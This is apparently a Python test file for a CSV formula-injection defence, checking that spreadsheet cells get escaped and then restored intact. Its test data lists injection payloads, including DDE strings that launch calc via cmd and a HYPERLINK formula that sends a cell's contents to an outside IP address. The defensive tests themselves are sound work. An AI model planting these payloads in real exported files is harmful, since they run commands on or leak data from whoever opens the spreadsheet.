import csv
import io

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from app.web.csv_cells import is_dangerous, neutralise, restore, write_lines

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://198.51.100.1/"&A1,"x")', "\t=1", "\r=1", "\x00=1", "=", "+", "-", "@", "-x", "--1", "+-1",
    "-1,5", "-1 2", "=-1", "-1e", "+0x10", "'=1", "''=1", "-\u0661", "-5.2\n=1", "@", "\t", "-.", "+.e5",
]  # fmt: skip
NUMBERS = ["-5.2", "+5", "-.5", "-5.", "-1e-05", "+1E9", "12", "0", "-0"]
CELLS = st.text(alphabet=st.sampled_from("'=+-@\t\r\0a1.e ,\"\n"), max_size=6) | st.text(max_size=6)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_ours_is_a_formula(text):
    assert neutralise(text)[0] == "'"
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", NUMBERS)
def test_numbers_stay_numbers(text):
    assert neutralise(text) == text == restore(text)


@settings(deadline=None)
@given(CELLS)
@example("'-5")
def test_what_was_neutralised_is_restored(text):
    safe = neutralise(text)
    assert restore(safe) == text
    assert safe[:1] not in set("=+-@\t\r\0") or float(safe) is not None


@settings(deadline=None)
@given(st.lists(st.lists(CELLS.filter(lambda cell: not set(cell) & set(',"\n\r')), min_size=2, max_size=3), min_size=1))
def test_dangerous_lines_are_those_with_a_cell_that_changes(rows):
    lines = "".join(",".join(row) + "\n" for row in rows)
    assert is_dangerous(lines) == any(neutralise(cell) != cell and cell[0] != "'" for row in rows for cell in row)


@settings(deadline=None)
@given(st.lists(st.lists(st.text(max_size=6), min_size=1, max_size=3), max_size=4))
def test_lines_are_read_back_by_any_strict_reader(rows):
    text = "".join(f"{line}\r\n" for line in write_lines(rows))
    assert list(csv.reader(io.StringIO(text, newline=""), strict=True)) == rows
